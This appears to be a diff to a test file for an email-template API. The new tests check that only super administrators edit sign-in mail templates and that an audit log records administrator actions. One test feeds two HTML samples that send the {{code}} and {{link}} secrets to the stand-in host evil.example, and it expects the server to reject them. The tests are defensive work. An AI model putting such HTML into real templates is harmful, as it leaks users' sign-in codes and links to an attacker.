@@ -3,11 +3,15 @@ import { auditLogPath, mailsPath } from '@sillage/core/paths'
 import { beforeAll, describe, expect, it, onTestFinished } from 'vitest'
 import { send } from './client.ts'
 import { newTemplate } from './mail-world.ts'
-import { db, newPerson, type Person } from './world.ts'
+import { db, joinBrand, newBrand, newPerson, type Person } from './world.ts'
 
 let admin: Person
+let superAdmin: Person
 beforeAll(async () => {
-  admin = await newPerson([], { role: 'admin' })
+  ;[admin, superAdmin] = await Promise.all([
+    newPerson([], { role: 'admin' }),
+    newPerson([], { role: 'super_admin' }),
+  ])
 })
 
 const path = (id = '', verb = '') => `/api/email-templates${id && `/${id}`}${verb && `/${verb}`}`
@@ -95,6 +99,83 @@ describe('email templates', () => {
       const reply = await call('PUT', path(id), { ...said, [field]: value })
       expect(reply.body).toMatchObject({ errorCode: 'bad_request', field })
     }
+  })
+})
+
+describe('templates of mails that sign people in', () => {
+  const content = { subject: 'In', html: '<a href="{{link}}">In</a>', text: '{{link}}' }
+  const as = (person: Person, method: string, at: string, body?: unknown) =>
+    send(method, at, { token: person.token, ...(body === undefined ? {} : { body }) })
+
+  it.each(['verification_en', 'password_reset_fr', 'one_time_code_en', 'invitation_en'])(
+    'are for super administrators: %s',
+    async (template_key) => {
+      const id = await newTemplate({ template_key, html: content.html })
+      for (const [method, at, body] of [
+        ['POST', path(), { ...content, template_key }],
+        ['PUT', path(id), content],
+        ['POST', path(id, 'activate'), undefined],
+        ['DELETE', path(id), undefined],
+      ] as const) {
+        const reply = await as(admin, method, at, body)
+        expect(reply, `${method} ${at}`).toMatchObject({
+          status: 403,
+          body: { errorCode: 'super_admin_only' },
+        })
+      }
+      expect((await as(admin, 'GET', path(id))).status).toBe(200)
+      expect((await as(superAdmin, 'PUT', path(id), content)).status).toBe(200)
+      expect((await as(superAdmin, 'DELETE', path(id))).status).toBe(200)
+    },
+  )
+
+  it('load nothing from elsewhere, and give their secret to nobody', async () => {
+    for (const html of [
+      '<img src="https://evil.example/{{code}}">',
+      '<a href="https://evil.example/{{link}}">x</a>',
+    ]) {
+      const created = await as(superAdmin, 'POST', path(), {
+        ...content,
+        html,
+        template_key: 'verification_en',
+      })
+      expect(created.body).toMatchObject({ errorCode: 'bad_request', field: 'html' })
+      const id = await newTemplate({ template_key: 'verification_en', html })
+      const activated = await as(superAdmin, 'POST', path(id, 'activate'))
+      expect(activated.body).toMatchObject({ errorCode: 'bad_request', field: 'html' })
+    }
+  })
+})
+
+describe('the audit log', () => {
+  it('holds every act of an administrator, and what refused it', async () => {
+    const [person, brand] = [await newPerson(), await newBrand()]
+    await joinBrand(brand.brandId, person.uid, 'owner')
+    const act = (method: string, at: string, body: unknown) => send(method, at, { token: admin.token, body })
+    const quota = { user_id: person.uid, monthly_run_limit: 7 }
+    expect((await act('PUT', '/api/users/quota', quota)).status).toBe(200)
+    expect((await act('PUT', `/api/brands/${brand.brandId}`, { name: 'Renamed' })).status).toBe(200)
+    expect((await act('PUT', `/api/brands/${brand.brandId}/members/nobody`, { role: 'owner' })).status).toBe(
+      404,
+    )
+    const { docs } = await db.collection(auditLogPath()).where('actorId', '==', admin.uid).get()
+    const entries = docs.map((document) => document.data())
+    expect(entries).toContainEqual(
+      expect.objectContaining({ action: 'plans.setUserQuota', actorEmail: admin.email, after: quota }),
+    )
+    expect(entries).toContainEqual(
+      expect.objectContaining({ action: 'brandSetup.update', target: `/api/brands/${brand.brandId}` }),
+    )
+    expect(entries).toContainEqual(
+      expect.objectContaining({ action: 'members.changeRole', refused: 'member_not_found' }),
+    )
+  })
+
+  it('holds nothing of what members do with their own brand', async () => {
+    const brand = await newBrand()
+    const member = await newPerson([brand.brandId], { role: 'admin' })
+    await send('PUT', `/api/brands/${brand.brandId}`, { token: member.token, body: { name: 'Renamed' } })
+    expect((await db.collection(auditLogPath()).where('actorId', '==', member.uid).get()).size).toBe(0)
   })
 })
 
